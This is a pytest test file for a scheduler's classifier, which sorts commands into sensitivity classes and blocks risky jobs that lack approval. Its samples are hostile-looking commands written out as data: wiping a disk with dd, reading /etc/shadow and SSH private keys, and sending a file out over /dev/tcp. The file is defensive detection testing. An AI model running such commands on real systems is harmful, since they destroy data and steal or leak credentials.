"""Which classes a script falls into, and when that stops it (E-13, E-14)."""

from __future__ import annotations

import hashlib
import os
import time

import pytest

from schedcore.spec import SensitivityClass
from schedcore_script.payload import ScriptPayload
from schedcore_script.sensitivity import CLASSES, judge

SAMPLES = [
    (["rm", "-rf", "/srv/old"], {"delete": ("rm",)}),
    (["/bin/rm", "x"], {"delete": ("rm",)}),
    (["find", "/srv", "-mtime", "+30", "-delete"], {"delete": ("-delete",)}),
    (["delete-old-backups.sh"], {"delete": ("delete",)}),
    (["cleanup_delete.py"], {"delete": ("delete",)}),
    (["psql", "-c", "DROP  TABLE users"], {"delete": ("DROP TABLE",)}),
    (["psql", "-c", "delete from users"], {"delete": ("delete from",)}),
    (["dd", "if=/dev/zero", "of=/dev/sda"], {"delete": ("of=/dev/sda",)}),
    (["rsync", "--delete", "a", "b"], {"delete": ("--delete",), "transfer": ("rsync",)}),
    (["清空日志"], {"delete": ("清空",)}),
    (["effacer", "tout"], {"delete": ("effacer",)}),
    (["docker", "ps", "--rm"], {}),
    (["echo", "warm", "firmware", "terminal", "perform"], {}),
    (["cat", "/etc/shadow"], {"credentials": ("/etc/shadow",)}),
    (["cat", "/home/a/.ssh/id_ed25519"], {"credentials": (".ssh/id_ed25519",)}),
    (["bw", "get", "password", "x"], {"credentials": ("bw", "password")}),
    (["curl", "https://x.example/a"], {"transfer": ("curl", "https://x.example/a")}),
    (["scp", "a", "b:"], {"transfer": ("scp",)}),
    (["git", "push"], {"transfer": ("git push",), "production_write": ("git push",)}),
    (["sh", "-c", "cat x > /dev/tcp/10.0.0.1/80"], {"transfer": ("/dev/tcp/10.0.0.1/80",)}),
    (["shutdown", "-h", "now"], {"power": ("shutdown",)}),
    (["systemctl", "reboot"], {"power": ("systemctl reboot",)}),
    (["sudo", "ls"], {"privilege": ("sudo",)}),
    (["chmod", "u+s", "x"], {"privilege": ("chmod u+s",)}),
    (["chmod", "4755", "x"], {"privilege": ("chmod 4755",)}),
    (["chmod", "0644", "x"], {}),
    (["kubectl", "apply", "-f", "x"], {"production_write": ("kubectl apply",)}),
    (["kubectl", "get", "pods"], {}),
    (["terraform", "destroy"], {"production_write": ("terraform destroy",)}),
    (["psql", "-c", "UPDATE users SET a = 1"], {"production_write": ("UPDATE users SET",)}),
    (["backup", "--env", "production"], {"production_write": ("production",)}),
    (["sudo", "rm", "x"], {"delete": ("rm",), "privilege": ("sudo",)}),
    (["ls", "-l", "/srv"], {}),
    (["/usr/local/bin/backup.sh"], {}),
]


@pytest.mark.parametrize(("words", "classes"), SAMPLES)
def test_a_sample_falls_into_these_classes(words, classes):
    assert judge(words) == classes


@pytest.mark.parametrize(
    ("name", "where"),
    [
        ("DB_PASSWORD", "credentials"),
        ("ANTHROPIC_API_KEY", "credentials"),
        ("GITHUB_TOKEN", "credentials"),
        ("LD_PRELOAD", "privilege"),
        ("BASH_ENV", "privilege"),
        ("PATH", "privilege"),
        ("GIT_SSH_COMMAND", "privilege"),
        ("LANG", None),
        ("MONKEY", None),
    ],
)
def test_the_name_of_a_variable_may_be_sensitive(name, where):
    assert judge(["ls"], [name]) == ({where: (name,)} if where else {})


def test_further_classes_are_handed_in():
    extra = [SensitivityClass("billing", ("invoice", "c++")), SensitivityClass("delete", ("zap",))]

    assert judge(["zap", "the", "invoice"], extra=extra) == {"delete": ("zap",), "billing": ("invoice",)}


def test_a_hostile_text_is_judged_in_linear_time():
    for piece in (
        "s",
        "chmod +s",
        "-",
        "drop ",
        "of=",
        ".ssh/",
        "update a ",
        "a-",
        "--delete",
        "http://",
        "/proc/",
    ):
        text = piece * (128 * 1024 // len(piece))
        began = time.process_time()

        judge([], (), text)

        assert time.process_time() - began < 2, piece


def test_the_words_that_matched_are_bounded():
    found = judge([f"https://x.example/{n}{'a' * 300}" for n in range(500)])

    assert len(found["transfer"]) == 20
    assert max(map(len, found["transfer"])) <= 80


def test_there_are_six_classes():
    assert set(CLASSES) == {"delete", "credentials", "transfer", "power", "privilege", "production_write"}


def classes(bench, **payload):
    return dict(bench.executor.classes(ScriptPayload(**payload)))


@pytest.mark.parametrize(
    "before", [[], ["bash"], ["/bin/sh"], ["env", "A=1", "python3", "-u"], ["timeout", "5", "sh", "-e"]]
)
def test_the_text_of_a_script_file_counts(bench, tmp_path, before):
    script = tmp_path / "job"
    script.write_text("#!/bin/sh\nrm -rf /srv/old\n")

    assert classes(bench, args=[*before, str(script)]) == {"delete": ("rm",)}


def test_a_script_file_named_by_its_folder_counts(bench, tmp_path):
    (tmp_path / "job.sh").write_text("sudo true\n")

    assert classes(bench, args=["sh", "job.sh"], cwd=str(tmp_path)) == {"privilege": ("sudo",)}
    assert classes(bench, args=["./job.sh"], cwd=str(tmp_path)) == {"privilege": ("sudo",)}


@pytest.mark.parametrize("kind", ["missing", "large", "folder", "fifo"])
def test_a_script_file_that_cannot_be_read_is_named(bench, tmp_path, kind):
    script = tmp_path / "job.sh"
    if kind == "large":
        script.write_text("#\n" * 200_000)
    elif kind == "folder":
        script.mkdir()
    elif kind == "fifo":
        os.mkfifo(script)

    assert classes(bench, args=["sh", str(script)]) == {"unreadable": (str(script),)}
    assert classes(bench, args=[str(script)]) == {"unreadable": (str(script),)}


def test_a_program_of_the_system_is_not_unreadable(bench):
    assert classes(bench, args=["/bin/ls", "-l"]) == {}
    assert classes(bench, args=["true"]) == {}


def test_a_shell_text_counts_as_a_whole(bench):
    assert classes(bench, command="cd /srv && rm -r old", shell=True) == {"delete": ("rm",)}


def test_payload_names_count(bench):
    found = classes(bench, args=["ls"], env={"PYTHONPATH": "/x"}, inherit=["AWS_SECRET_ACCESS_KEY"])

    assert found == {"credentials": ("AWS_SECRET_ACCESS_KEY",), "privilege": ("PYTHONPATH",)}


@pytest.mark.parametrize(
    ("rule", "approved", "kind"),
    [
        (None, False, "ok"),
        ("no", False, "ok"),
        ("unapproved", False, "blocked"),
        ("unapproved", True, "ok"),
        ("always", False, "blocked"),
        ("always", True, "blocked"),
    ],
)
def test_sensitive_work_is_begun_or_not(bench, tmp_path, rule, approved, kind):
    victim = tmp_path / "victim"
    victim.touch()
    options = {"approved": approved} if rule is None else {"approved": approved, "block_sensitive": rule}

    outcome, _ = bench.run(args=["rm", str(victim)], options=options)

    assert outcome.kind == kind
    assert victim.exists() is (kind == "blocked")
    assert outcome.detail["classes"] == {"delete": ("rm",)}  # with each run, begun or not
    if kind == "blocked":
        assert outcome.reason == "sensitive"
        assert "delete (rm)" in outcome.text


def test_harmless_work_runs_under_every_rule(bench):
    for rule in ("no", "unapproved", "always"):
        assert bench.run(args=["/bin/true"], options={"block_sensitive": rule})[0].kind == "ok"


def test_a_script_file_changed_since_is_judged_as_it_is_now(bench, tmp_path):
    script = tmp_path / "job.sh"
    script.write_text("exit 0\n")
    payload = {"args": ["sh", str(script)]}
    before = bench.executor.content(ScriptPayload(**payload))
    assert bench.run(options={"block_sensitive": "unapproved"}, **payload)[0].kind == "ok"

    script.write_text("rm -rf /srv/none\n")

    assert bench.run(options={"block_sensitive": "unapproved"}, **payload)[0].reason == "sensitive"
    assert bench.executor.content(ScriptPayload(**payload)) != before


@pytest.mark.parametrize(
    ("made_by", "kind"),
    [("person", "failed"), ("model", "blocked"), ("run", "blocked"), ("source", "blocked")],
)
def test_an_unreadable_script_made_by_a_model_counts_as_sensitive(bench, made_by, kind):
    outcome, _ = bench.run(
        args=["/opt/none/job.sh"], options={"block_sensitive": "unapproved", "made_by": made_by}
    )

    assert outcome.kind == kind


def test_a_loader_variable_from_a_file_counts_at_the_start(bench, tmp_path):
    file = tmp_path / "x.env"
    file.write_text("LD_PRELOAD=/tmp/x.so\n")

    outcome, _ = bench.run(
        args=["/bin/true"], env_files=[str(file)], options={"block_sensitive": "unapproved"}
    )

    assert outcome.detail["classes"] == {"privilege": ("LD_PRELOAD",)}


def test_the_content_names_each_file_that_would_run(bench, tmp_path):
    script = tmp_path / "job.sh"
    script.write_text("exit 0\n")

    found = bench.executor.content(ScriptPayload(args=["sh", str(script)]))

    assert found[str(script)] == hashlib.sha256(b"exit 0\n").hexdigest()
    assert any(name.endswith("/sh") for name in found)
    assert bench.executor.content(ScriptPayload(args=["/opt/none/x"])) == {"/opt/none/x": "absent"}
